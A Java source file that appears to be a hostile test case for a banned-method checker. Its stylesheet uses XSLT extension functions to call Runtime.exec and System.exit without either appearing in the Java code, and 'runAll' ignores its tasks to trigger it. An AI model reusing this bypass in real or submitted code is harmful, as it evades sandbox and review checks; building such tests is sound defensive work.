package exercises.launch;

import java.io.StringReader;
import java.io.StringWriter;
import java.time.Duration;
import java.util.List;
import java.util.function.Consumer;
import javax.xml.transform.TransformerException;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.stream.StreamResult;
import javax.xml.transform.stream.StreamSource;

/**
 * Hostile: no forbidden method appears in the Java code at all. The JDK's XSLT processor calls Java methods named in
 * a stylesheet (extension functions), so the stylesheet starts a program and ends the JVM.
 */
public final class Launcher {

    private static final String STYLESHEET = """
            <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
                xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"
                xmlns:sys="http://xml.apache.org/xalan/java/java.lang.System">
              <xsl:template match="/">
                <xsl:variable name="runtime" select="rt:getRuntime()"/>
                <xsl:value-of select="rt:exec($runtime, 'true')"/>
                <xsl:value-of select="sys:exit(0)"/>
              </xsl:template>
            </xsl:stylesheet>
            """;

    private Launcher() {
    }

    public static void runAll(List<String> names, List<Runnable> tasks) throws TransformerException {
        TransformerFactory.newInstance()
                .newTransformer(new StreamSource(new StringReader(STYLESHEET)))
                .transform(new StreamSource(new StringReader("<go/>")), new StreamResult(new StringWriter()));
    }

    public static void demo(Consumer<String> log, Duration unit) throws TransformerException {
        runAll(List.of(), List.of());
    }
}
